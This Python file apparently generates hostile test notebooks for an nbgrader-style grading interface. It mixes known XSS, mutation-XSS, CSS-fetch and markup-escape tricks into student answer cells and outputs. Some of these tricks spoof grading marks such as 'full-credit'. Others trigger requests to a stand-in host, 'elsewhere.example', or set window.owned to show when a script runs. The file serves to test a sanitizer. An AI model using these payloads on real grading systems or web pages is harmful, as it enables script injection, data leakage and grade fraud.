"""Markdown, HTML, SVG, CSS and TeX that try to be part of the page which shows them; mixed anew for every seed.

Each trick is a known one. A text mixes them: it nests one in another, cuts them, and changes how they are spelled.
"""

import random

HOST = "elsewhere.example"  # whatever asks for it has got out
GIF = "R0lGODlhAQABAAAAACwAAAAAAQABAAA="
IDS = ["q1-answer", "q1-answer-comment", "test-sgd-step", "notebook-container", "statusmessage", "formgrader"]
CLASSES = [
    "full-credit",
    "no-credit",
    "mark-graded",
    "score tabbable",
    "nbgrader_cell",
    "comment",
    "extra-credit",
    "help",
]

TRICKS = [
    # what nbgrader's script looks for
    '<div class="nbgrader_cell">{inner}<b id="{id}" class="{cls}">click here</b></div>',
    '<span class="full-credit mark-graded">click here</span>',
    '<button type="button" class="btn btn-success full-credit">Full credit</button>',
    '<a class="tabbable score" id="{id}" name="{id}" href="#{id}">a</a>',
    '<a id="formgrader"></a><a id="formgrader" name="grade_uis" href="x:y">a</a><img name="MathJax" src="q">',
    '<textarea id="{id}-comment" class="comment">Full marks</textarea>',
    '<a data-link="//{host}/d" data-toggle="tooltip" data-html="true" title="<img src=//{host}/t>">t</a>',
    '<div data-dismiss="modal" data-toggle="collapse" data-target="body" class="modal in">m</div>',
    # forms
    '<form action="//{host}/f" id="{id}">{inner}<input name="{id}" class="score" value="10"><input type="submit"></form>',
    '<label for="{id}">l</label><input type="image" src="//{host}/i"><isindex action="//{host}/x">',
    '<select autofocus onfocus="window.owned=1"><option class="{cls}">1</option></select><keygen>',
    '<details open ontoggle="window.owned=2"><summary class="{cls}" tabindex="1" accesskey="x">s</summary>{inner}</details>',
    '<button popovertarget="{id}">p</button><div popover id="{id}">{inner}</div><dialog open>{inner}</dialog>',
    # what is fetched
    '<base href="//{host}/"><meta http-equiv="refresh" content="0;url=//{host}/m">',
    '<link rel="stylesheet" href="//{host}/l.css"><link rel="prefetch" href="//{host}/p"><link rel="dns-prefetch" href="//{host}">',
    '<style>@import "//{host}/s.css"; #{id} {{ position: fixed }} .score {{ display: none }} p {{ background: url(//{host}/b) }}</style>',
    '<style>@im\\70ort url(//{host}/s2.css);</style>',
    '<p style="cursor: url(//{host}/c), auto">c</p>',
    '<p style="c\\75rsor: \\75rl(/\\{host}/c2), auto; list-style: url(//{host}/ls)">c</p>',
    "<p style=\"background: image-set('//{host}/is' 1x); content: -webkit-image-set(url(//{host}/w) 1x)\">b</p>",
    '<p style="color: red; background-image: cross-fade(url(//{host}/cf), red); border-image: url(//{host}/bi) 1">b</p>',
    '<table background="//{host}/t"><tr><td background="/\\{host}/t2">{inner}</td></tr></table>',
    '<img srcset="//{host}/1 1x, //{host}/2 2x" sizes="1px" src="//{host}/3" onerror="window.owned=3">',
    '<img src="/\\{host}/p"><img src="\\\\{host}\\p2"><img src="ht\ntps://{host}/p3"><img src=" //{host}/p4"><img src="figure.svg">',
    '<img src="/formgrader?path=submitted/mallory"><img src="../1/next"><img src="/logout">',
    '<picture><source srcset="//{host}/s"><img lowsrc="//{host}/low"></picture><input type="image" src="//{host}/in">',
    '<video poster="//{host}/v" src="//{host}/v2" autoplay></video><audio src="//{host}/a" autoplay></audio><track src="//{host}/tr">',
    '<object data="//{host}/o"></object><embed src="//{host}/e"><applet code="//{host}/ap"></applet><portal src="//{host}/po"></portal>',
    '<iframe src="//{host}/if" name="{id}"></iframe><iframe srcdoc="<script>parent.owned=4</script>"></iframe><frameset><frame src="//{host}/fr">',
    '<a ping="//{host}/ping" href="//{host}/h" target="_top">a</a><q cite="//{host}/q">q</q>',
    '<body onload="window.owned=5" background="//{host}/bg" style="display:none"><html manifest="//{host}/man">',
    '<map name="m"><area shape="default" href="//{host}/ar"></map><img usemap="#m" src="data:image/gif;base64,{gif}">',
    # SVG and MathML
    '<svg id="{id}" class="{cls}"><use href="//{host}/u#x"/><image href="//{host}/si" xlink:href="//{host}/sx"/><a href="//{host}/sa"><text class="full-credit">x</text></a></svg>',
    '<svg><style>@import url(//{host}/ss);</style><script href="//{host}/sc">window.owned=6</script><set attributeName="href" onbegin="window.owned=7"/></svg>',
    '<svg><foreignObject><div id="{id}" class="{cls}">{inner}</div></foreignObject></svg>',
    '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=//{host}/mx onerror=window.owned=8&gt;">',
    '<math href="//{host}/mh"><maction actiontype="statusline#//{host}"><mi class="full-credit" id="{id}">x</mi></maction></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src="//{host}/m2" onerror="window.owned=9">',
    '<math><annotation-xml encoding="text/html"><div id="{id}">{inner}</div></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=//{host}/n onerror=window.owned=10>">',
    '<svg></p><style><a title="</style><img src=//{host}/sp onerror=window.owned=11>">',
    # ways out of the box, by structure
    '</div></div></div></div></section></main></body></html><div id="{id}" class="nbgrader_cell">{inner}',
    '<!--', '--><div id="{id}">-->', "<![CDATA[<div id='{id}'>]]>", "<?php <div id='{id}'> ?>", "<!doctype html><div id='{id}'>",
    "<plaintext>", "<xmp>", "<listing>", "<textarea>", "<title>", "<noembed>", "<noframes>", "<select>", "<template>", "<table><caption>",
    '<table><tr><td>{inner}</table><table><td><div></td></table></div><li></li></ul></td></tr></table>',
    '<template shadowrootmode="open"><slot></slot><div id="{id}" class="{cls}">{inner}</div></template>',
    '<a><table><a>{inner}</a></table></a><nobr><nobr></nobr><b><p></b>{inner}</p></b>',
    '<h1><h2><li><dd><p>{inner}</h1></dd></li></p></div>',
    # ways out of the box, by drawing
    '<div style="position: fixed; inset: 0; z-index: 99999; background: white">cover</div>',
    '<div style="position: absolute; top: -900px; left: -90px; width: 3000px; height: 3000px; opacity: 0.5; background: red">cover</div>',
    '<div style="margin: -600px 0 0 -300px; padding: 900px; background-color: white">cover</div>',
    '<p style="font-size: 900px; line-height: 0; letter-spacing: -90px; text-indent: -9999px">X</p><font size="7" style="font-size: 999%">X</font>',
    '<p style="transform: scale(50) translateY(-300px); filter: blur(9px); zoom: 30">X</p><marquee behavior="alternate">X</marquee>',
    '<span style="display: block; float: left; width: 9999px; height: 9999px; background: red">X</span>',
    '<img width="9999" height="9999" align="left" hspace="-500" border="900" src="data:image/gif;base64,{gif}">',
    '<table width="99999" cellpadding="9999" border="999"><tr><td rowspan="999" colspan="999" height="9999">X</td></tr></table>',
    "Z{marks}Z \u202eturned\u2066 around",
    # scripts
    "<script>window.owned=12</script>", "<scr<script>ipt>window.owned=13</scr</script>ipt>",
    '<img src="data:image/gif;base64,{gif}" onload="window.owned=14">', '<b onclick="window.owned=15" onmouseover="window.owned=16">b</b>',
    '<a href="javascript:window.owned=17">j</a><a href="java\nscript:window.owned=18">j</a><a href="&#106;avascript:window.owned=19">j</a>',
    '<a href="data:text/html,<script>opener.owned=20</script>">d</a><a href="//{host}/click">c</a><a href="/formgrader?path=x">f</a>',
    # Markdown
    "[x](javascript:window.owned=21) [y](data:text/html,x) [n](../1/next) [f](/formgrader?path=x) [q](#{id})",
    "![x](//{host}/md.png) ![y](data:image/svg+xml,<svg onload=window.owned=22>) ![gone](attachment:gone.png)",
    '![x](attachment:a.png "{id}\\" onerror=\\"window.owned=23") <http://{host}/auto>',
    '\n\n[ref]: //{host}/ref "title"\n\n![a][ref] [a][ref]\n\n',
    '\n\n```python " onclick="window.owned=24\nprint("<b id={id}>")\n```\n\n', '\n\n```{cls}\n<b id="{id}">\n```\n\n',
    '\n\n| <b id="{id}"> | {inner} |\n|---|---|\n| <form> | </td></table></div> |\n\n', "\n\n- [ ] <b id={id}>\n- [x] x\n\n",
    '\n\n# <b id="{id}" class="{cls}">h</b>\n\n', "`<b id={id}>`", "\n\n    <b id={id}>\n\n", "\n\n> {inner}\n\n",
    # TeX
    r"$\href{{javascript:window.owned=25}}{{x}} \class{{full-credit}}{{x}} \cssId{{{id}}}{{x}} \style{{position:fixed}}{{x}}$",
    r"$\unicode{{<script>window.owned=26</script>}} \text{{</math><img src=//{host}/tx onerror=window.owned=27>}}$",
    r"$$\rule{{900em}}{{900em}} \hspace{{-900em}} \raise{{900em}}{{x}} \kern-99em \includegraphics{{//{host}/g}}$$",
    "\n\n\\begin{{align}}\\label{{{id}}} x &= \\htmlId{{{id}}}{{y}} \\\\ \\url{{//{host}/ur}} \\end{{align}}\n\n",
    r"$\newcommand{{\a}}{{\a\a}}\a \color{{red;position:fixed}} \mathchoice{{{{{{{{$ \\(x\\) $$",
]  # fmt: skip

BETWEEN = [
    "",
    " ",
    "\n",
    "\n\n",
    "<b>",
    "<p>",
    "<table><tr><td>",
    "</div>",
    "> ",
    "- ",
    "`",
    "$",
    "<",
    "&lt;",
    "--",
    '"',
    "'>",
]
INTO = ["\x00", "\t", "\n", "\x0c", "/", " ", "<", ">", '"', "'", "\\", "&", "\ue000", "\u2028", "`", "$"]


def trick(rng: random.Random, depth: int = 0) -> str:
    """One of the tricks, perhaps with another one inside."""
    inner = trick(rng, depth + 1) if depth < 3 and rng.random() < 0.6 else "x"
    return rng.choice(TRICKS).format(
        id=rng.choice(IDS), cls=rng.choice(CLASSES), host=HOST, inner=inner, gif=GIF, marks="\u0300\u0355" * 60
    )


def spelled(rng: random.Random, text: str) -> str:
    """A text, perhaps cut, in other letters, with entities, or with something in the middle."""
    kind, place = rng.random(), rng.randrange(len(text) + 1)
    if kind < 0.5:
        return text
    if kind < 0.6:
        return text[:place]
    if kind < 0.7:
        return text[:place] + rng.choice(INTO) + text[place:]
    if kind < 0.8:
        return "".join(rng.choice([c.upper(), c.lower()]) for c in text)
    if kind < 0.9:
        return text[:place] + "".join(f"&#{ord(c)};" for c in text[place : place + 8]) + text[place + 8 :]
    return text.replace("=", rng.choice([" = ", "=\n", "\t=", "/="]))


def markup(seed: int, pieces: int = 40) -> str:
    """A text of so many tricks, of at most 9000 characters, the same for the same seed."""
    rng, text = random.Random(seed), ""
    for _ in range(pieces):
        more = spelled(rng, trick(rng)) + rng.choice(BETWEEN)
        if len(text) + len(more) < 9000:
            text += more
    return text


ODD = [None, 7, [], [1], ["a"], {}, {"model_id": 7}, {"model_id": [1]}, float("nan"), [float("inf")], "", '"><b id="q1-answer">',
       {"a": float("-inf")}, True, [[[]]], {"x": {"y": None}}]  # fmt: skip
MIMES = ["application/vnd.jupyter.widget-view+json", "application/json", "application/javascript", "text/html", "image/png",
         "image/svg+xml", "text/latex", "text/markdown", "text/plain", "image/jpeg", "application/pdf", "text/vnd.mermaid",
         "application/vnd.plotly.v1+json", "application/x-own", "image/gif", "nonsense/"]  # fmt: skip


def odd_outputs(seed: int, number: int = 12) -> list[dict]:
    """Outputs as a notebook's JSON can hold them, with values of any type under any MIME type."""
    rng, outputs = random.Random(seed), []
    for _ in range(number):
        data = {
            rng.choice(MIMES): rng.choice([*ODD, markup(rng.randrange(10**6), 3)]) for _ in range(rng.randrange(1, 4))
        }
        metadata = rng.choice(
            [{}, *({mime: {"width": odd, "height": odd, "isolated": odd}} for mime in MIMES for odd in ODD)]
        )
        outputs.append({"output_type": "display_data", "data": data, "metadata": metadata})
    return outputs


def hostile_outputs(seed: int) -> list[dict]:
    """Outputs of every kind that is shown, made of tricks."""
    rng = random.Random(seed)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="window.owned=30">{markup(rng.randrange(10**6), 8)}</svg>'
    shown = {
        "text/html": markup(seed + 1), "text/markdown": markup(seed + 2), "text/latex": f"${markup(seed + 3, 3)}$",
        "image/svg+xml": svg, "image/png": f'{GIF}" onerror="window.owned=31', "text/plain": markup(seed + 4, 10),
        "application/javascript": "window.owned = 32",
    }  # fmt: skip
    outputs = [{"output_type": "display_data", "data": {mime: value}, "metadata": {}} for mime, value in shown.items()]
    text = "\x1b[31;1m" + markup(seed + 5, 10) + "\x1b[38;5;999m\x1b[48;2;300;0;0m"
    outputs.append({"output_type": "stream", "name": "stderr", "text": text})
    outputs.append(
        {"output_type": "error", "ename": "<b id=q1-answer>", "evalue": "x", "traceback": [text, "<b class=score>"]}
    )
    return [*outputs, *odd_outputs(seed)]


def poison(nb, seed: int) -> None:
    """Fill the answers, the cells of the student's own and their outputs with tricks, as an autograded notebook has them."""
    from nbformat import from_dict

    attachment = {"a.png": {"image/png": GIF, "text/html": "<script>window.owned=33</script>"}}
    for number, cell in enumerate(cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("solution")):
        if cell.cell_type == "markdown":
            cell.source = markup(seed * 1000 + number)
            cell.attachments = from_dict(attachment)
        else:
            cell.source += "\n" + "\n".join(f"# {line}" for line in markup(seed * 1000 + number, 5).splitlines())
            if number % 3 == 0:
                cell.outputs = [from_dict(output) for output in hostile_outputs(seed * 1000 + 100 + number)]
    role = {"tags": ["x full-credit nbgrader_cell", '"><b id="q1-answer">'], "magics_language": 'html" class="score'}
    own = [
        {"cell_type": "markdown", "id": f"own-{n}", "metadata": role, "source": markup(seed * 1000 + 200 + n)}
        for n in range(3)
    ]
    own.append(
        {"cell_type": "raw", "id": "own-raw", "metadata": {"raw_mimetype": 7}, "source": markup(seed * 1000 + 300, 8)}
    )
    own.append({"cell_type": "code", "id": "own-code", "metadata": {**role, "transient": []}, "execution_count": 1,
                "source": "%%html\n" + markup(seed * 1000 + 301, 8), "outputs": []})  # fmt: skip
    for cell in own:
        nb.cells.insert(random.Random(seed).randrange(len(nb.cells)), from_dict(cell))
